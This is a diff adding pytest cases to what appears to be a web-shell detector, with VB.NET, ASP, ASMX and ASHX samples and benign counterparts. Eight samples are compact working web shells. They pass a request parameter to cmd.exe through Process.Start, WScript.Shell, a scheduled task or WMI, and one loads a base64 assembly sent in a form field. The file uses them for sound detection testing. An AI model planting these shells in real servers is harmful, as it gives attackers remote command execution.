@@ -339,3 +339,56 @@ def test_benign_upload_handler_with_a_filename_initialiser():
                   ' var rec = new UploadRecord { FileName = f.FileName, Arguments = context.Request["note"] };'
                   ' Process(rec); } void Process(UploadRecord r) { Db.Save(r); } public bool IsReusable { get { return true; } } }',
                   "x.ashx")
+
+
+# --- VB.NET typed declarations, web methods, more COM ----------------------------------------------------------
+
+TYPED = {
+    "vb-script-block": ("x.aspx", '<%@ Page Language="VB" %><script runat="server">Sub Page_Load(sender As Object, e As EventArgs)\n'
+                                  'Dim c As String = Request.Form("c")\nIf c <> "" Then\nDim p As Process = Process.Start("cmd.exe", "/c " & c)\n'
+                                  'End If\nEnd Sub</script>'),
+    "vb-typed-assembly": ("x.aspx", '<%@ Page Language="VB" %><% Dim b() As Byte = Convert.FromBase64String(Request.Form("p")) :'
+                                    ' System.Reflection.Assembly.Load(b).CreateInstance("X").Equals(Me) %>'),
+    "vb-new-process": ("x.aspx", '<%@ Page Language="VB" %><% Dim a As String = Request("c")\nDim p As New System.Diagnostics.Process()\n'
+                                 'p.StartInfo.FileName = "cmd.exe"\np.StartInfo.Arguments = "/c " & a\np.Start() %>'),
+    "vb-asmx-web-method": ("x.asmx", '<%@ WebService Language="VB" Class="S" %>\nImports System.Web.Services\nPublic Class S\n'
+                                     '<WebMethod()> Public Function R(c As String) As String\nReturn Process.Start("cmd.exe", "/c " & c).Id.ToString()\n'
+                                     'End Function\nEnd Class'),
+    "vb-ashx-wscript": ("x.ashx", '<%@ WebHandler Language="VB" Class="H" %>\nImports System.Web\nPublic Class H : Implements IHttpHandler\n'
+                                  'Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest\n'
+                                  'Dim o = CreateObject("WScript.Shell")\no.Run(context.Request("c"))\nEnd Sub\nEnd Class'),
+    "asp-wsh-exec-stdin": ("x.asp", '<%Set e = CreateObject("WScript.Shell").Exec("cmd.exe")\ne.StdIn.WriteLine Request("c")\ne.StdIn.Close\n'
+                                    'Response.Write e.StdOut.ReadAll%>'),
+    "asp-scheduled-task": ("x.asp", '<%Set s = CreateObject("Schedule.Service")\ns.Connect\nSet t = s.NewTask(0)\nSet a = t.Actions.Create(0)\n'
+                                    'a.Path = "cmd.exe"\na.Arguments = "/c " & Request("c")\ns.GetFolder("\\").RegisterTaskDefinition "x", t, 6, , , 3%>'),
+    "asp-wmi-moniker": ("x.asp", '<%Set p = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process")\n'
+                                 'p.Create Request("c"), Null, Null, pid%>'),
+}
+
+
+@pytest.mark.parametrize("case", sorted(TYPED))
+def test_vbnet_typed_declarations_and_com(case):
+    name, text = TYPED[case]
+    assert_shell(text, name)
+
+
+def test_benign_vbnet_page_with_typed_declarations():
+    assert_benign('<%@ Page Language="VB" %><script runat="server">Sub Page_Load(sender As Object, e As EventArgs)\n'
+                  'Dim id As Integer = CInt(Request.QueryString("id"))\nDim cmd As New System.Data.SqlClient.SqlCommand('
+                  '"SELECT name FROM items WHERE id = @id", conn)\ncmd.Parameters.AddWithValue("@id", id)\n'
+                  'Dim p As New System.Diagnostics.Process()\np.StartInfo.FileName = "C:\\tools\\thumb.exe"\np.StartInfo.Arguments = "-all"\n'
+                  'p.Start()\nEnd Sub</script>', "x.aspx")
+
+
+def test_benign_vbnet_web_method_adding_numbers():
+    assert_benign('<%@ WebService Language="VB" Class="S" %>\nImports System.Web.Services\nPublic Class S\n'
+                  '<WebMethod()> Public Function Add(a As Integer, b As Integer) As Integer\nReturn a + b\nEnd Function\nEnd Class', "x.asmx")
+
+
+def test_many_unclosed_typed_declarations_end_in_bounded_time():
+    import time
+
+    page = ('<%@ Page Language="VB" %><% ' + "Dim x As T.U.V(Of (" * 40000 + " %>").encode()
+    t0 = time.process_time()
+    variant_asserts.hits(page.decode(), "x.aspx")
+    assert time.process_time() - t0 < 5.0
